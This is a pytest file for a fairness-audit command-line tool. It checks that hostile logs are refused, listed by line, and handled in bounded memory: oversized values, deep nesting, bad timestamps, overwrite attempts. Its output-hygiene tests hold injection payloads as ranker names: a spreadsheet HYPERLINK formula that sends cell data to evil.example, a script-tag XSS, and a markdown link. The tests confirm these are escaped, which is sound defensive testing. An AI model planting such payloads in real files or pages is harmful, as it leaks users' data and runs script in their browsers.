"""Hostile input to `fairrag audit` (issue 25): one test per row of the README's table
("Hostile and malformed input", the audit rows). Each attack is the issue's own: a line
claiming a list of two billion, values outside their metric's range, lines nested deeper
than any record, logs with no record at all, formula and HTML injection through a ranker's
name, an `--out` that would overwrite the log, a record from the year 9999.

Memory blow-ups are run in a child process under an address-space limit (``RLIMIT_AS``), so
that a regression fails the test instead of the machine.
"""

from __future__ import annotations

import csv
import json
import os
import re
import resource
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fairrag_audit import audit
from fairrag_audit.cli import main
from tests.audit.logs import record, write_log

ROOT = Path(__file__).resolve().parents[2]
ADDRESS_SPACE = 3 * 2**30
"""The child's address-space limit: about 1.2 GiB of interpreter, numpy, pandas and DuckDB
mapped before any work, and DuckDB's own 1 GB limit."""
FUZZ_EXAMPLES = 20
MAX_K, MAX_DEPTH, MAX_LABEL_CHARS = 10_000, 64, 256
"""The caps of docs/SPEC.md "Auditing logs" (checked against the modules' below)."""


def test_the_caps_are_those_the_spec_states():
    from fairrag_audit import lines, scan

    assert (scan.MAX_K, lines.MAX_DEPTH, scan.MAX_LABEL_CHARS) == (
        MAX_K,
        MAX_DEPTH,
        MAX_LABEL_CHARS,
    )
    assert lines.MAX_LINE_BYTES == 16 * 2**20
    assert (scan.MAX_FITTED_CHARS, scan.MAX_FITTED_GROUPS) == (512 * 1024, 1000)
    spec = (ROOT / "docs" / "SPEC.md").read_text(encoding="utf-8")
    stated_caps = ("**10,000**", "**64**", "**256 characters**", "**16 MiB**", "**5 minutes**")
    for stated in (*stated_caps, "**512 KiB**", "**1,000** group factors"):
        assert stated in spec, stated


def good_records(count: int = 19) -> list[dict]:
    return [
        record(
            ["female", "male", "male"] if i % 2 else ["male", "female", "male"],
            timestamp=f"2026-12-01T0{i % 10}:00:00Z",
            generation_parity=0.5,
        )
        for i in range(count)
    ]


def log_with(tmp_path: Path, *lines: str | bytes, name: str = "log.jsonl") -> Path:
    """19 good records, then ``lines`` as written (line 20 onward)."""
    raw = [line.encode() if isinstance(line, str) else line for line in lines]
    return write_log(tmp_path / name, good_records(), [line + b"\n" for line in raw])


def limited(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """``python -m fairrag_audit.cli ARGS`` under the address-space limit."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))

    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "fairrag_audit.cli", "audit", *args],
        cwd=cwd,
        env=env,
        preexec_fn=limit,
        capture_output=True,
        text=True,
        timeout=600,
    )


# -- bounded work per record -------------------------------------------------------------------


def test_a_line_claiming_two_billion_shown_documents_is_refused_in_bounded_memory(tmp_path):
    huge_k = '{"ranker":"s","protected":"female","k":2000000000,"exposure_share":0.5}'
    long_line = b'{"ranker": "s", "zzz": "' + b"x" * (17 * 2**20) + b'"}'
    deep_line = b'{"ranker": "s", "zzz": ' + b"[" * 8_000_000 + b"]" * 8_000_000 + b"}"
    log = log_with(tmp_path, huge_k, long_line, deep_line)
    done = limited([str(log), "--out", str(tmp_path / "out"), "--protected", "female"], tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    left_out = list(csv.DictReader(open(tmp_path / "out" / "left_out.csv")))
    reasons = {int(row["line"]): row["reason"] for row in left_out}
    assert reasons[20] == f"k 2000000000 is not a whole number in [0, {MAX_K:,}]"
    assert reasons[21].startswith("line of 17,825,") and "longer than the 16 MiB cap" in reasons[21]
    assert reasons[22] == f"nested 8,000,001 deep, deeper than the cap of {MAX_DEPTH}"
    summary = json.loads((tmp_path / "out" / "summary.json").read_text())
    assert summary["reading"]["used"] == 19


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (
            '{"ranker":"s","protected":"female","generation_parity":1e300}',
            "generation_parity 1e300 is outside [0, 1]",
        ),
        (
            '{"ranker":"s","protected":"female","exposure_by_group":{"female":50,"male":-49}}',
            'exposure_by_group {"female":50,"male":-49} holds a share that is not a number in '
            "[0, 1]",
        ),
        (
            '{"ranker":"s","exposure_by_group":{"female":0.5,"male":0.6}}',
            "exposure_by_group shares sum to 1.1, not 1",
        ),
        ('{"ranker":"s","exposure_share":-0.1}', "exposure_share -0.1 is outside [0, 1]"),
        ('{"ranker":"s","groundedness":NaN}', "groundedness NaN is outside [0, 1]"),
        ('{"ranker":"s","fairness_gap":2}', "fairness_gap 2 is outside [-1, 1]"),
        ('{"ranker":"s","fairness_gap_magnitude":-1e999}', "fairness_gap_magnitude -1e999 is"),
        ('{"ranker":"s","groups":["female"],"k":2.5}', "k 2.5 is not a whole number"),
        ('{"ranker":"s","k":-1}', "k -1 is not a whole number"),
        ('{"ranker":"s","groups":["female"],"target":{"female":1.5}}', "target share 1.5 is"),
        ('{"ranker":"s","groups":[["female"]]}', "groups holds an array or object"),
        ('{"ranker":{"a":1},"groups":["male"]}', "ranker is an array or object, not a name"),
        (
            json.dumps({"ranker": "s", "groups": ["x" * (MAX_LABEL_CHARS + 1)]}),
            f"a group label in groups is longer than {MAX_LABEL_CHARS} characters",
        ),
        (
            json.dumps({"ranker": "r" * (MAX_LABEL_CHARS + 1), "groups": ["male"]}),
            f"ranker is longer than {MAX_LABEL_CHARS} characters",
        ),
        (
            json.dumps({"ranker": "s", "groups": ["male"] * (MAX_K + 1)}),
            f"groups holds {MAX_K + 1} labels, above the cap of {MAX_K:,}",
        ),
    ],
)
def test_values_outside_their_metrics_range_are_refused_and_listed_by_line(tmp_path, line, reason):
    log = log_with(tmp_path, "", line)  # a blank line before it: line 21
    result = audit([log], protected="female")
    clean = audit([write_log(tmp_path / "clean.jsonl", good_records())], protected="female")
    row = result.reading.iloc[0]
    assert (row["refused"], row["records"], row["used"]) == (1, 19, 19)
    (listed,) = result.left_out.itertuples()
    assert (listed.file, listed.line, listed.kind) == (str(log), 21, "refused")
    assert listed.reason.startswith(reason), listed.reason
    assert result.rankers["value"].equals(clean.rankers["value"])  # nothing of it counted


def test_a_refused_value_never_reaches_the_figures(tmp_path, capsys):
    log = log_with(tmp_path, '{"ranker":"s","exposure_by_group":{"female":50,"male":-49}}')
    out = tmp_path / "out"
    assert main(["audit", str(log), "--out", str(out), "--protected", "female"]) == 0
    assert f"{log}: 1 records refused" in capsys.readouterr().out
    assert (out / "figures" / "disparity_band.png").is_file()
    report = (out / "report.md").read_text()
    assert f"| {log} | 20 | refused | exposure\\_by\\_group" not in report  # "_" kept as is
    assert f"| {log} | 20 | refused | exposure_by_group" in report


def test_nesting_deeper_than_the_cap_is_refused_before_duckdb_parses_it(tmp_path):
    deep = '{"ranker":"s","groups":' + "[" * 100_000 + "]" * 100_000 + "}"
    log = log_with(tmp_path, *[deep] * 21)
    result = audit([log], protected="female")
    assert result.reading.iloc[0]["refused"] == 21
    assert set(result.left_out["reason"]) == {"nested 100,001 deep, deeper than the cap of 64"}
    assert list(result.left_out["line"]) == list(range(20, 41))
    # a legend of 200,000 characters took the old audit 57 s: no label reaches a figure
    assert set(result.exposure["group"]) == {"female", "male"}


@settings(max_examples=200, deadline=None, database=None, derandomize=True)
@given(
    st.recursive(
        st.one_of(st.none(), st.integers(), st.text(alphabet='[]{}"\\ab', max_size=6)),
        lambda inner: st.one_of(
            st.lists(inner, max_size=3), st.dictionaries(st.text('[]{}"\\', max_size=3), inner)
        ),
        max_leaves=80,
    )
)
def test_nesting_depth_is_that_of_the_parsed_json(value):
    from fairrag_audit.lines import nesting_depth

    def depth(x: object) -> int:
        if isinstance(x, list):
            return 1 + max((depth(v) for v in x), default=0)
        if isinstance(x, dict):
            return 1 + max((depth(v) for v in x.values()), default=0)
        return 0

    line = json.dumps(value).encode()
    true_depth = depth(value)
    found = nesting_depth(line)
    # exact once the cheap bound (brackets counted, strings included) passes the cap
    assert found == true_depth if found > MAX_DEPTH else true_depth <= MAX_DEPTH
    padded = b"[" * MAX_DEPTH + line + b"]" * MAX_DEPTH
    assert nesting_depth(padded) == MAX_DEPTH + true_depth


def test_the_reader_holds_any_bytes_in_bounded_memory(tmp_path):
    """Property-based fuzz (hypothesis) of the reader: records of random fields and values
    (NaN, 1e300, two billion, nested lists), torn lines, raw bytes, lines nested up to 300,000
    deep, blank lines; the counts add up, every line left out is listed with its number, every
    figure stays in its metric's range. In a child process under RLIMIT_AS."""
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "tests.reliability.audit_fuzz_child",
            str(tmp_path),
            str(FUZZ_EXAMPLES),
            str(ADDRESS_SPACE),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=900,
    )
    assert done.returncode == 0, (done.stdout + done.stderr)[-4000:]


# -- logs with no usable record ----------------------------------------------------------------

NOT_RECORDS = {
    "a lone torn line": b'{"ranker": "s", "prot',
    "only garbage": b"\x89PNG\r\n\x1a\n\x00\xff\n<html>",
    "a JSON list": b"[1, 2]",
    "an empty file": b"",
}


@pytest.mark.parametrize("case", NOT_RECORDS)
def test_a_log_without_records_is_a_clear_error_never_a_traceback(tmp_path, capsys, case):
    log = tmp_path / "killed.jsonl"
    log.write_bytes(NOT_RECORDS[case])
    out = tmp_path / "out"
    assert main(["audit", str(log), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "fairrag audit: error: no record to audit in 1 log(s)" in err
    assert "Traceback" not in err
    assert (out / "report.md").is_file()  # which lines, and why, is in the report


@pytest.mark.parametrize("case", NOT_RECORDS)
def test_a_log_without_records_beside_good_logs_is_counted_and_listed(tmp_path, capsys, case):
    good = write_log(tmp_path / "good.jsonl", good_records())
    bad = tmp_path / "killed.jsonl"
    bad.write_bytes(NOT_RECORDS[case])
    out = tmp_path / "out"
    assert main(["audit", str(good), str(bad), "--out", str(out), "--protected", "female"]) == 0
    assert "19 records audited" in capsys.readouterr().out
    listed = list(csv.DictReader(open(out / "left_out.csv")))
    assert {row["file"] for row in listed} <= {str(bad)}
    assert [int(row["line"]) for row in listed] == list(range(1, len(listed) + 1))
    assert len(listed) == len([x for x in NOT_RECORDS[case].split(b"\n") if x.strip()])


# -- output hygiene ----------------------------------------------------------------------------

HOSTILE_NAMES = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\tTAB",
    "<script>alert(1)</script>",
    "[click](http://evil.example)",
    "a | b",
]


def hostile_log(tmp_path: Path) -> Path:
    records = [
        record(
            ["female", "male"] if i % 2 else ["male", "female"],
            ranker=name,
            tenant=name,
            generation_parity=0.0,  # fairness_gap below 0: a negative number
            fairness_gap=-0.25,
        )
        for name in HOSTILE_NAMES
        for i in range(3)
    ]
    return write_log(tmp_path / "log.jsonl", records)


def test_csv_cells_are_neutralised_against_formula_injection(tmp_path):
    out = tmp_path / "out"
    log = hostile_log(tmp_path)
    args = ["audit", str(log), "--out", str(out), "--by", "tenant", "--protected", "female"]
    assert main(args) == 0
    for name in ("rankers.csv", "metrics.csv", "exposure.csv"):
        rows = list(csv.DictReader(open(out / name, newline="")))
        assert rows
        for row in rows:
            for column in ("ranker", "tenant"):
                if column in row:  # a formula's start, but a number written as text
                    cell = row[column]
                    formula = cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                    assert not formula or re.fullmatch(r"[+-][0-9.eE+-]+", cell), row
        rankers = {row["ranker"] for row in rows}
        assert "'=1+1" in rankers and "'-1+1" in rankers and "'\tTAB" in rankers
    gaps = [
        row["value"]
        for row in csv.DictReader(open(out / "rankers.csv", newline=""))
        if row["metric"] == "fairness_gap"
    ]
    assert all(float(value) == -0.25 for value in gaps)  # numbers stay numbers


def test_a_number_written_as_text_is_no_formula():
    """An operator's trial: a tenant id ``-5`` was written ``'-5`` (joins on it broke)."""
    import pandas as pd

    from fairrag_audit.report import csv_safe

    cells = ["-5", "+3", "-1.5e3", "-.5", "-1+1", "=1", "-", "--by tenant", "-5 ", "a"]
    got = csv_safe(pd.DataFrame({"tenant": cells}))["tenant"].tolist()
    assert got == ["-5", "+3", "-1.5e3", "-.5", "'-1+1", "'=1", "'-", "'--by tenant", "'-5 ", "a"]


def test_report_md_escapes_html_and_markdown(tmp_path):
    out = tmp_path / "out"
    args = ["audit", str(hostile_log(tmp_path)), "--out", str(out), "--protected", "female"]
    assert main(args) == 0
    report = (out / "report.md").read_text()
    assert "<script" not in report and "&lt;script&gt;alert(1)&lt;/script&gt;" in report
    assert "](http://evil.example)" not in report  # no link
    assert "[click]\\(http://evil.example)" in report
    assert "| a \\| b | 3 |" in report  # one cell, not two
    html_report = (out / "report.html").read_text()
    assert "<script>alert" not in html_report


@pytest.mark.parametrize("name", ["reading.csv", "report.md", "summary.json", "figures/x"])
def test_an_input_is_never_overwritten_by_the_report(tmp_path, capsys, name):
    folder = tmp_path / "d"
    folder.mkdir()
    if name == "figures/x":
        (folder / "figures").mkdir()
        name = "figures/exposure_over_time.png"
    log = write_log(folder / name, good_records())
    before = log.read_bytes()
    assert main(["audit", str(log), "--out", str(folder)]) == 2
    assert f"would overwrite the log {str(log)!r}" in capsys.readouterr().err
    assert log.read_bytes() == before
    assert not (folder / "report.html").exists()  # nothing written


def test_an_out_that_is_a_file_is_refused_before_any_work(tmp_path, capsys, monkeypatch):
    import fairrag_audit.analysis

    def never(*args, **kwargs):
        raise AssertionError("the audit ran before --out was checked")

    monkeypatch.setattr(fairrag_audit.analysis, "audit", never)
    log = write_log(tmp_path / "log.jsonl", good_records())
    (tmp_path / "file").write_text("")
    assert main(["audit", str(log), "--out", str(tmp_path / "file")]) == 2
    assert "is a file; give a folder" in capsys.readouterr().err
    assert main(["audit", str(log), "--out", str(tmp_path / "file" / "report")]) == 2
    assert "is a file, not a folder" in capsys.readouterr().err


def test_records_dated_in_the_future_are_flagged_not_passed_by_since(tmp_path, capsys):
    log = log_with(
        tmp_path,
        json.dumps({**good_records(1)[0], "timestamp": "9999-12-31T00:00:00Z"}),
    )
    out = tmp_path / "out"
    assert main(["audit", str(log), "--out", str(out), "--since", "1h"]) == 0
    stdout = capsys.readouterr().out
    assert "0 records audited" in stdout  # the 19 good ones are older (2026-12-01)
    assert "1 records dated after the audit started" in stdout
    reading = next(csv.DictReader(open(out / "reading.csv")))
    assert (reading["future"], reading["used"]) == ("1", "0")
    listed = next(csv.DictReader(open(out / "left_out.csv")))
    assert (listed["line"], listed["kind"]) == ("20", "future")
    assert listed["reason"] == 'timestamp "9999-12-31T00:00:00Z" is after the audit started'


def test_many_rankers_and_long_names_keep_the_figures_readable(tmp_path):
    names = [f"ranker {i:02d} " + "x" * 200 for i in range(30)]
    records = [record(["female", "male"], ranker=name) for name in names for _ in range(2)]
    result = audit([write_log(tmp_path / "log.jsonl", records)], protected="female")
    from fairrag_audit import write_report

    written = write_report(result, tmp_path / "out")
    assert "figures/exposure_over_time.png" in written
    assert any("the figure draws the 12 of 30" in note for note in result.notes)
    assert any("rankers compared: the 20 of 30 rankers" in note for note in result.notes)


# -- labels and dates no record may crash the audit with ----------------------------------------

HOSTILE_LABELS = ["fe\\", 'a"b', '"', "\\", "a.b", "$", "a[0]", "it's", "é ü 女性", '\\"', "$.x"]


def targets_read(tmp_path: Path, label: str, share: float = 0.3) -> list[tuple]:
    """(kind, protected, target_share) of each line of 5 good records, then one whose protected
    group is ``label`` with a target of ``share`` for it."""
    from fairrag_audit.options import AuditOptions
    from fairrag_audit.scan import connect, load_records

    hostile = {**good_records(1)[0], "protected": label, "target": {label: share, "x": 1 - share}}
    log = write_log(tmp_path / "log.jsonl", [*good_records(5), hostile])
    con = connect()
    load_records(con, AuditOptions.create([log], protected="female"))
    return con.execute(
        "SELECT kind, protected, target_share FROM records ORDER BY line_index"
    ).fetchall()


@pytest.mark.parametrize("label", HOSTILE_LABELS)
def test_a_protected_label_of_any_characters_finds_its_own_target_share(tmp_path, label):
    """The target is read by the label as a key, never through a JSON path built from it: `fe\\`
    aborted the whole audit (DuckDB: JSON path error), `a"b` lost its quote and silently took
    the default 0.5."""
    rows = targets_read(tmp_path, label)
    assert rows[:5] == [("record", "female", 0.5)] * 5
    assert rows[5] == ("record", label, 0.3)


def test_a_label_ending_in_a_backslash_never_aborts_the_audit(tmp_path, capsys):
    hostile = {**good_records(1)[0], "protected": "fe\\", "target": {"fe\\": 0.5, "OTHERS": 0.5}}
    twice = (
        '{"ranker":"s","groups":["female"],"protected":"female",'
        '"target":{"female":0.2,"female":0.4}}'
    )
    log = write_log(tmp_path / "log.jsonl", [*good_records(5), hostile], [twice.encode() + b"\n"])
    out = tmp_path / "d"
    assert main(["audit", str(log), "--out", str(out)]) == 0
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and "error" not in captured.err
    reading = next(csv.DictReader(open(out / "reading.csv")))
    assert (reading["records"], reading["refused"]) == ("6", "1")
    (listed,) = csv.DictReader(open(out / "left_out.csv"))
    assert (listed["line"], listed["kind"]) == ("7", "refused")
    assert listed["reason"] == ('target {"female":0.2,"female":0.4} names a group more than once')


@pytest.mark.parametrize("stamp", ["0001-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "-infinity"])
def test_records_dated_before_1970_are_refused_not_a_crash_of_the_windows(tmp_path, capsys, stamp):
    """A record of year 1 crashed the automatic windows (pandas cannot label 0001-05-02 BC)."""
    log = write_log(
        tmp_path / "log.jsonl", [*good_records(3), {**good_records(1)[0], "timestamp": stamp}]
    )
    out = tmp_path / "out"
    assert main(["audit", str(log), "--out", str(out), "--protected", "female"]) == 0
    assert "Traceback" not in capsys.readouterr().err
    reading = next(csv.DictReader(open(out / "reading.csv")))
    assert (reading["refused"], reading["future"], reading["used"]) == ("1", "0", "3")
    (listed,) = csv.DictReader(open(out / "left_out.csv"))
    assert (listed["line"], listed["kind"]) == ("4", "refused")
    assert listed["reason"] == f'timestamp "{stamp}" is before 1970-01-01'
    assert (out / "figures" / "exposure_over_time.png").is_file()
    spec = (ROOT / "docs" / "SPEC.md").read_text(encoding="utf-8")
    assert "before **1970-01-01**" in spec


def test_window_labels_of_the_earliest_records(tmp_path: Path) -> None:
    """Records from 1970-01-01 (the earliest kept) to now: the automatic windows of 365 d
    from DuckDB's origin (2000-01-03) start before 1970, and each has a label."""
    log = write_log(
        tmp_path / "log.jsonl",
        [
            record(["female"], timestamp="1970-01-01T00:00:00Z"),
            record(["male"], timestamp="2026-12-01T00:00:00Z"),
        ],
    )
    result = audit([log], protected="female")
    assert "2 windows of 365d" in result.figure_windows
    assert sorted(result.trend_exposure["window"].unique()) == [
        "1969-01-10T00:00:00Z",
        "2025-12-27T00:00:00Z",
    ]


# -- the attribution's fields (docs/SPEC.md "Attribution") -------------------------------------

STYLES_KNOWN = "doctitle, numbered, markdown_link, bracketed_title, source_label, implicit"


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        (
            {"attributed_generation_parity": 1.5},
            "attributed_generation_parity 1.5 is outside [0, 1]",
        ),
        (
            {"attributed_generation_parity": -1e300},
            "attributed_generation_parity -1e300 is outside",
        ),
        ({"attributed_groundedness": -0.1}, "attributed_groundedness -0.1 is outside [0, 1]"),
        ({"attributed_fairness_gap": -2}, "attributed_fairness_gap -2 is outside [-1, 1]"),
        ({"attributed_fairness_gap": float("nan")}, "attributed_fairness_gap NaN is outside"),
        (
            {"n_attribution_bullets": -1},
            "n_attribution_bullets -1 is not a whole number in [0, 10,000]",
        ),
        ({"n_attribution_bullets": 2.5}, "n_attribution_bullets 2.5 is not a whole number"),
        (
            {"n_attributed_bullets": 10_001},
            "n_attributed_bullets 10001 is not a whole number in [0",
        ),
        ({"n_attributed_bullets": 1e300}, "n_attributed_bullets 1e300 is not a whole number"),
        (
            {"n_attribution_bullets": 2, "n_attributed_bullets": 3},
            "n_attributed_bullets 3 is more than n_attribution_bullets 2",
        ),
        (
            {"citation_styles": "numbered"},
            'citation_styles "numbered" is not a list of style names',
        ),
        ({"citation_styles": {"a": 1}}, 'citation_styles {"a":1} is not a list of style names'),
        (
            {"citation_styles": ["numbered", 3]},
            'citation_styles ["numbered",3] holds a value that is not a style name',
        ),
        ({"citation_styles": [["numbered"]]}, 'citation_styles [["numbered"]] holds a value'),
        (
            {"citation_styles": ["numbered", "=HYPERLINK(1)"]},
            f"citation_styles names an unknown style: =HYPERLINK(1) (known: {STYLES_KNOWN})",
        ),
        (
            {"citation_styles": ["x" * 1000]},
            "citation_styles names an unknown style: " + "x" * 80 + " (known",
        ),
        (
            {"citation_styles": ["implicit"] * 7},
            "citation_styles lists 7 styles, above the 6 known",
        ),
        (
            {"citation_styles": ["numbered", "numbered"]},
            'citation_styles ["numbered","numbered"] names a style twice',
        ),
        ({"attributed_sources": "x"}, 'attributed_sources "x" is not a list of attributions'),
        (
            {"attributed_sources": [{}] * 10_001},
            "attributed_sources lists 10001 attributions, above the cap of 10,000",
        ),
        ({"attributed_sources": {"a": [1]}}, 'attributed_sources {"a":[1]} is not a list of'),
        (
            {"attributed_sources": [{"person": "x" * 2**20}]},
            "attributed_sources is 1048591 bytes of JSON, above the cap of 1,048,576",
        ),
        (
            {"citation_styles": ["implicit"] * 100},
            "citation_styles is 1101 bytes of JSON, above the cap of 1,024",
        ),
        (
            {"attributed_sources": [{}], "n_attribution_bullets": 3, "n_attributed_bullets": 2},
            "attributed_sources lists 1 attributions, fewer than the 2 attributed bullets",
        ),
        (
            {"n_attribution_bullets": 4, "n_attributed_bullets": 1, "attributed_groundedness": 0.5},
            "attributed_groundedness 0.5 is above n_attributed_bullets / n_attribution_bullets "
            "(1 / 4)",
        ),
        (
            {"n_attribution_bullets": 0, "n_attributed_bullets": 0, "attributed_groundedness": 0.2},
            "attributed_groundedness 0.2 is above",
        ),
        (
            {
                "n_attribution_bullets": 3,
                "n_attributed_bullets": 0,
                "attributed_generation_parity": 0.5,
            },
            "attributed_generation_parity 0.5 of an answer with no attributed bullet",
        ),
    ],
)
def test_attribution_fields_outside_their_definition_are_refused_and_listed(
    tmp_path, fields, reason
):
    base = {"ranker": "s", "protected": "female", "groups": ["female", "male"]}
    log = log_with(tmp_path, "", json.dumps(base | fields))  # json.dumps writes NaN as NaN
    result = audit([log], protected="female")
    clean = audit([write_log(tmp_path / "clean.jsonl", good_records())], protected="female")
    row = result.reading.iloc[0]
    assert (row["refused"], row["records"], row["used"]) == (1, 19, 19)
    (listed,) = result.left_out.itertuples()
    assert (listed.line, listed.kind) == (21, "refused")
    assert listed.reason.startswith(reason), listed.reason
    assert len(listed.reason) < 300
    assert result.rankers["value"].equals(clean.rankers["value"])  # nothing of it counted
    assert result.generation.equals(clean.generation)


def test_attribution_fields_of_the_wrong_type_count_as_missing_for_that_field_only(tmp_path):
    """A count written as a string, a style list of null, a parity of true: missing, the
    record's other values audited (as for every other field)."""
    fields = {
        "ranker": "standard",
        "protected": "female",
        "groups": ["female", "male"],
        "follows_citation_format": "no",
        "n_attribution_bullets": "3",
        "citation_styles": None,
        "attributed_sources": None,
        "attributed_generation_parity": "1",
        "attributed_groundedness": True,
        "generation_parity": 0.25,
    }
    log = log_with(tmp_path, json.dumps(fields))
    result = audit([log], protected="female")
    assert result.reading.iloc[0]["records"] == 20 and result.left_out.empty
    rows = result.rankers.set_index("metric")
    assert rows.loc["generation_parity", "n"] == 20
    assert rows.loc["generation_parity", "value"] == pytest.approx((19 * 0.5 + 0.25) / 20)
    assert rows.loc["attributed_generation_parity", "n"] == 0
    assert rows.loc["attributed_groundedness", "n"] == 0


def test_huge_attribution_lists_are_refused_in_bounded_memory_and_time(tmp_path):
    """Three lines of 11 to 15 MB (700,000 attributions, a million styles, six styles of
    2 MiB each), refused by the length of their JSON text before any parse, under RLIMIT_AS;
    the reasons stay short. Then 60 records with the longest attributed_sources accepted
    (1 MiB, 8,600 attributions each) are audited within the same limit."""
    base = '{"ranker":"s","protected":"female","groups":["female"],'
    sources = base + '"attributed_sources":[' + ",".join(['{"style":"numbered"}'] * 700_000)
    styles = base + '"citation_styles":[' + ",".join(['"implicit"'] * 10**6) + "]}"
    long_names = base + '"citation_styles":[' + ",".join(['"' + "y" * 2**21 + '"'] * 6) + "]}"
    log = log_with(tmp_path, sources + "]}", styles, long_names)
    done = limited([str(log), "--out", str(tmp_path / "out"), "--protected", "female"], tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    reasons = {
        int(row["line"]): row["reason"]
        for row in csv.DictReader(open(tmp_path / "out" / "left_out.csv"))
    }
    assert reasons == {
        20: "attributed_sources is 14700001 bytes of JSON, above the cap of 1,048,576",
        21: "citation_styles is 11000001 bytes of JSON, above the cap of 1,024",
        22: "citation_styles is 12582931 bytes of JSON, above the cap of 1,024",
    }
    summary = json.loads((tmp_path / "out" / "summary.json").read_text())
    assert summary["reading"]["used"] == 19

    entry = {
        "line_number": 1,
        "person": "Ada Lovelace",
        "title": "Ada Lovelace",
        "style": "numbered",
        "names_person": True,
        "group": "female",
    }
    record = {
        **good_records(1)[0],
        "citation_styles": ["numbered"],
        "attributed_sources": [entry] * 8_600,
        "n_attribution_bullets": 8_600,
        "n_attributed_bullets": 8_600,
    }
    assert (
        2**20 - 10_000
        < len(json.dumps(record["attributed_sources"], separators=(",", ":")))
        < 2**20
    )
    big = write_log(tmp_path / "big.jsonl", [record] * 60)
    done = limited([str(big), "--out", str(tmp_path / "big"), "--protected", "female"], tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    summary = json.loads((tmp_path / "big" / "summary.json").read_text())
    assert summary["reading"]["used"] == 60
    assert summary["generation"][0]["bullets"] == 60 * 8_600
